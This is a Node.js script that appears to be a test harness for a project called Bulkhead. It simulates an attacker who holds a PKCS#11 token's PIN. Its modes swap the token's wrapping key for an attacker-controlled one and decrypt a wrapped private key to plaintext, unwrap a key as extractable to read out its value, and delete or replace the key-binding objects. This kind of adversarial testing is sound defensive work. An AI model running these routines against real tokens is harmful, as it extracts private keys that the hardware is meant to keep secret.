/**
 * An attacker who has the PIN of a token and a wrapped key, and tries what PKCS#11 offers. Arguments: library, PIN file,
 * what to try, and for `loose` the wrapped key's file. Prints one JSON object.
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import pkcs11 from 'pkcs11js';

const [library, pinFile, what, blobFile] = process.argv.slice(2);
const module = new pkcs11.PKCS11();
module.load(library);
module.C_Initialize();
const slot = module
  .C_GetSlotList(true)
  .find((candidate) => (module.C_GetTokenInfo(candidate).flags & pkcs11.CKF_TOKEN_INITIALIZED) !== 0);
const session = module.C_OpenSession(slot, pkcs11.CKF_SERIAL_SESSION | pkcs11.CKF_RW_SESSION);
module.C_Login(session, pkcs11.CKU_USER, readFileSync(pinFile, 'utf8'));

const attribute = (type, value) => ({ type, value });
const idOf = (name) => createHash('sha256').update(name, 'utf8').digest().subarray(0, 20);
const find = (id) => {
  module.C_FindObjectsInit(session, [attribute(pkcs11.CKA_ID, id)]);
  const found = module.C_FindObjects(session, 10);
  module.C_FindObjectsFinal(session);
  return found;
};
const say = (answer) => console.log(JSON.stringify(answer));

/** Puts a key of his own in the place of a wrapping key, one that also decrypts, and shows what that is good for. */
function plantWrappingKey() {
  for (const old of find(idOf('wrap\nbackup'))) module.C_DestroyObject(session, old);
  const key = module.C_GenerateKey(session, { mechanism: pkcs11.CKM_AES_KEY_GEN }, [
    attribute(pkcs11.CKA_CLASS, pkcs11.CKO_SECRET_KEY),
    attribute(pkcs11.CKA_KEY_TYPE, pkcs11.CKK_AES),
    attribute(pkcs11.CKA_VALUE_LEN, 32),
    attribute(pkcs11.CKA_TOKEN, true),
    attribute(pkcs11.CKA_ID, idOf('wrap\nbackup')),
    attribute(pkcs11.CKA_LABEL, 'backup'),
    ...[pkcs11.CKA_SENSITIVE, pkcs11.CKA_WRAP, pkcs11.CKA_UNWRAP, pkcs11.CKA_ENCRYPT, pkcs11.CKA_DECRYPT].map((type) =>
      attribute(type, true),
    ),
    attribute(pkcs11.CKA_EXTRACTABLE, false),
  ]);
  const cbc = { mechanism: pkcs11.CKM_AES_CBC, parameter: Buffer.alloc(16) };
  const [target] = find(idOf('alpha/backed-up')).filter((object) => {
    const [value] = module.C_GetAttributeValue(session, object, [attribute(pkcs11.CKA_CLASS)]);
    return value.value[0] === pkcs11.CKO_PRIVATE_KEY;
  });
  const wrapped = module.C_WrapKey(session, cbc, key, target, Buffer.alloc(4096));
  module.C_DecryptInit(session, cbc, key);
  const clear = module.C_Decrypt(session, wrapped, Buffer.alloc(4096));
  say({ clear: clear.toString('hex') });
}

/** Unwraps somebody's key as one that can be read, under the id that Bulkhead looks for. */
function unwrapLoosely() {
  const { record, wrapped } = JSON.parse(readFileSync(blobFile, 'utf8'));
  const [wrapping] = find(idOf('wrap\nbackup'));
  const id = idOf(record.keyId);
  const key = module.C_UnwrapKey(session, { mechanism: 0x210a }, wrapping, Buffer.from(wrapped, 'base64'), [
    attribute(pkcs11.CKA_CLASS, pkcs11.CKO_PRIVATE_KEY),
    attribute(pkcs11.CKA_KEY_TYPE, pkcs11.CKK_EC),
    attribute(pkcs11.CKA_TOKEN, true),
    attribute(pkcs11.CKA_PRIVATE, true),
    attribute(pkcs11.CKA_SENSITIVE, false),
    attribute(pkcs11.CKA_EXTRACTABLE, true),
    attribute(pkcs11.CKA_SIGN, true),
    attribute(pkcs11.CKA_ID, id),
    attribute(pkcs11.CKA_LABEL, record.keyId),
  ]);
  const point = Buffer.from(record.uncompressed, 'hex');
  module.C_CreateObject(session, [
    attribute(pkcs11.CKA_CLASS, pkcs11.CKO_PUBLIC_KEY),
    attribute(pkcs11.CKA_KEY_TYPE, pkcs11.CKK_EC),
    attribute(pkcs11.CKA_TOKEN, true),
    attribute(pkcs11.CKA_EC_PARAMS, Buffer.from('06052b8104000a', 'hex')),
    attribute(pkcs11.CKA_EC_POINT, Buffer.concat([Buffer.from([0x04, point.length]), point])),
    attribute(pkcs11.CKA_ID, id),
  ]);
  const [value] = module.C_GetAttributeValue(session, key, [attribute(pkcs11.CKA_VALUE)]);
  say({ clear: value.value.toString('hex') });
}

/** What a kill between the two objects of a wrapping key leaves. */
function halveWrappingKey() {
  for (const binding of find(idOf('bind\nbackup'))) module.C_DestroyObject(session, binding);
  say({ clear: '' });
}

/** Puts a key of his own in the place of a wrapping key, one that only wraps, so that its attributes are right. */
function exchangeWrappingKey() {
  for (const old of find(idOf('wrap\nbackup'))) module.C_DestroyObject(session, old);
  module.C_GenerateKey(session, { mechanism: pkcs11.CKM_AES_KEY_GEN }, [
    attribute(pkcs11.CKA_CLASS, pkcs11.CKO_SECRET_KEY),
    attribute(pkcs11.CKA_KEY_TYPE, pkcs11.CKK_AES),
    attribute(pkcs11.CKA_VALUE_LEN, 32),
    attribute(pkcs11.CKA_TOKEN, true),
    attribute(pkcs11.CKA_ID, idOf('wrap\nbackup')),
    attribute(pkcs11.CKA_LABEL, 'backup'),
    ...[pkcs11.CKA_SENSITIVE, pkcs11.CKA_WRAP, pkcs11.CKA_UNWRAP].map((type) => attribute(type, true)),
    ...[pkcs11.CKA_EXTRACTABLE, pkcs11.CKA_ENCRYPT, pkcs11.CKA_DECRYPT].map((type) => attribute(type, false)),
  ]);
  say({ clear: '' });
}

const attacks = {
  plant: plantWrappingKey,
  loose: unwrapLoosely,
  halve: halveWrappingKey,
  exchange: exchangeWrappingKey,
};
attacks[what]();
module.C_Finalize();
